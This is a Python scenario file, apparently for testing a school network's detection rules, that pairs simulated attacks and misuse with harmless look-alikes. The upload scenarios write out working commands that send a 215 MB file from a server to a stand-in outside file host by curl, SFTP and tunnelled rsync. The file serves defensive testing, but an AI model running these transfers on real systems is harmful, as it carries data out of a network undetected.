# SPDX-License-Identifier: Apache-2.0
"""What is allowed on the Internet, but not here or not now."""

import contextlib
import os
import random
import time

from acts import fetch, greet_gateway, visit
from outside import OTHER
from scenario import ATTACK, CONVERSATION, HARMLESS, MISUSE, UNANSWERED, Scenario
from scenarios.guessing import start_ssh
from web import serve_nginx


def unapproved_vendor(school):
    for who in ("student-01", "student-02", "student-03", "student-04", "student-05"):
        fetch(school, who, "https://newlearning-app.example/style.css")
        time.sleep(0.4)


def approved_vendor(school):
    for who in ("student-01", "student-02", "student-03", "student-04", "student-05"):
        fetch(school, who, "https://classroom.example/style.css")
        time.sleep(0.4)


def exam_contact(school):
    greet_gateway(school, "exam-01")
    fetch(school, "exam-01", "https://classroom.example/")
    visit(school, "exam-01", "chat.ai-example.test")


def exam_work(school):
    for who in ("exam-01", "exam-02"):
        greet_gateway(school, who)
        visit(school, who, "classroom.example")


LESSONS = "https://lessons.learning_platforms.drill.test/"


def call_in_vain(school, who, times):
    """Open a page of the platform again and again, and give up each time."""
    greet_gateway(school, who)
    for _ in range(times):
        fetch(school, who, LESSONS, "--connect-timeout", 0.4, check=False)


def platform_silent(school):
    for number in range(1, 6):
        call_in_vain(school, f"student-0{number}", 5)


def platform_silent_for_one(school):
    """A device whose own firewall lets nothing out that way, as it looks from outside."""
    call_in_vain(school, "student-06", 25)


FILE_HOST = "up.filehosting.drill.test"
TAKES_FILES = """server {{ listen {address}:443 ssl; ssl_certificate {certificate};
 ssl_certificate_key {key}; client_max_body_size 0; root {folder}/taken; dav_methods PUT; }}
"""


def upload(school, who, size, *options):
    """Send a file of some size to a file host outside, which takes it by WebDAV."""
    far, authority, host = school["outside"], school.outside.authority, school[who]
    far.run("mkdir", "-p", far.path("taken"))
    with open(host.path("papers.zip"), "wb") as file:
        file.truncate(size)
    text = TAKES_FILES.format(address=OTHER[FILE_HOST], key=authority.key,
                              certificate=authority.certify(FILE_HOST), folder=far.folder)
    with serve_nginx(far, text) as server:
        server.wait_port(443)
        greet_gateway(school, who)
        school.uncut(who)
        host.run("curl", "-sS", "-T", host.path("papers.zip"), "--cacert",
                 authority.certificate, *options, f"https://{FILE_HOST}/", timeout=120)
        school.uncut(who, "off")
    os.unlink(far.path("taken/papers.zip"))


def large_upload(school):
    """The file server's data leave, 60 MB a second."""
    upload(school, "srv-files", 215_000_000, "--limit-rate", "60M")


def homework_upload(school):
    """The same amount to the same place, but a teacher's."""
    upload(school, "staff-01", 215_000_000, "--limit-rate", "60M")


RSYNCD = """[backups]
path = {folder}/taken
read only = no
use chroot = no
uid = root
gid = root
"""


def backup(school):
    """A server's nightly backup to the same place, which has grown to nearly the bound."""
    far, authority, server = school["outside"], school.outside.authority, school["srv-web"]
    far.run("mkdir", "-p", far.path("taken"))
    os.mkdir(server.path("papers"))
    for number in range(19):
        with open(server.path(f"papers/{number}.zip"), "wb") as file:
            file.write(random.Random(number).randbytes(10_000_000))
    config = far.write("rsyncd.conf", RSYNCD.format(folder=far.folder))
    with far.start("rsync", "--daemon", "--no-detach", "--config", config, "--address", "127.0.0.1",
                   "--port", 873) as daemon, \
            far.start("socat", "-b", 65536, f"OPENSSL-LISTEN:874,bind={OTHER[FILE_HOST]},reuseaddr,fork,verify=0,"
                      f"cert={authority.certify(FILE_HOST)},key={authority.key}",
                      "TCP:127.0.0.1:873") as tls:
        daemon.wait_port(873)
        tls.wait_port(874)
        greet_gateway(school, "srv-web")
        school.uncut("srv-web")
        through = (f"socat -b 65536 - OPENSSL:{FILE_HOST}:874,snihost={FILE_HOST},"
                   f"cafile={authority.certificate}")
        server.run("env", f"RSYNC_CONNECT_PROG={through}", "rsync", "-a", "--bwlimit=60M",
                   server.path("papers"), f"rsync://{FILE_HOST}/backups/", timeout=120)
        school.uncut("srv-web", "off")
    far.run("rm", "-r", far.path("taken"))
    server.run("rm", "-r", server.path("papers"))


SSH = """IdentityFile {key}
User root
BatchMode yes
StrictHostKeyChecking no
UserKnownHostsFile /dev/null
LogLevel ERROR
"""


@contextlib.contextmanager
def host_by_ssh(school, who, name):
    """A host outside that takes a machine's papers.zip of 215 MB by SSH; gives the machine's
    settings for ssh, and where there to put it."""
    far, host = school["outside"], school[who]
    far.run("mkdir", "-p", far.path("taken"))
    with open(host.path("papers.zip"), "wb") as file:
        file.truncate(215_000_000)
    sshd, key = start_ssh(far, host, OTHER[name])
    with sshd:
        greet_gateway(school, who)
        school.uncut(who)
        yield host.write("ssh_config", SSH.format(key=key)), f"{name}:{far.path('taken')}/"
        school.uncut(who, "off")
    far.run("rm", "-r", far.path("taken"))
    os.unlink(host.path("papers.zip"))


def sftp_upload(school):
    """The file server's data leave by SFTP, 60 MB a second at most."""
    server = school["srv-files"]
    with host_by_ssh(school, "srv-files", FILE_HOST) as (config, there):
        server.run("sftp", "-q", "-F", config, "-l", 480_000, "-b", "-", there,
                   stdin=f"put {server.path('papers.zip')}\n", timeout=120)


SCENARIOS = [
    Scenario("large-upload", ATTACK,
             "The file server sends 215 MB to a file host outside.", large_upload,
             rules=["exfil.server-upload"], within=CONVERSATION, thin=True, told_by=15),
    Scenario("homework-upload", HARMLESS,
             "A teacher's computer sends 215 MB of pupils' films to the same file host; a "
             "server that did so would raise exfil.server-upload.", homework_upload,
             thin=True),
    Scenario("backup", HARMLESS,
             "A server's backup of 190 MB goes to a file host outside, by rsync in TLS at "
             "two in the night; 10 MB more would raise exfil.server-upload.", backup,
             ["rsync", "socat"], thin=True, by_night=True),
    Scenario("sftp-upload", ATTACK,
             "The file server sends 215 MB to a file host outside by SFTP, which names no "
             "host; the look-up before does.", sftp_upload,
             ["sftp", "ssh-keygen", "sshd"], ["exfil.server-upload"], within=CONVERSATION,
             thin=True, told_by=17),
    Scenario("unapproved-vendor", MISUSE,
             "Five student devices use a learning app that is not in the vendor "
             "register.", unapproved_vendor, rules=["privacy.unapproved-vendor"],
             told_by=6),
    Scenario("approved-vendor", HARMLESS,
             "Five student devices use the learning platform that the district approved.",
             approved_vendor),
    Scenario("exam-contact", MISUSE,
             "A device in the exam room talks to an AI chat.", exam_contact,
             rules=["exam.contact"], told_by=5),
    Scenario("exam-work", HARMLESS,
             "Two devices in the exam room use the learning platform only.", exam_work),
    Scenario("platform-silent", ATTACK,
             "Five student devices look the learning platform up, and nothing answers "
             "their connections.", platform_silent, rules=["service.no-answer"],
             within=UNANSWERED, told_by=22),
    Scenario("platform-silent-for-one", HARMLESS,
             "One student device, and no other, finds no answer from the platform.",
             platform_silent_for_one),
]
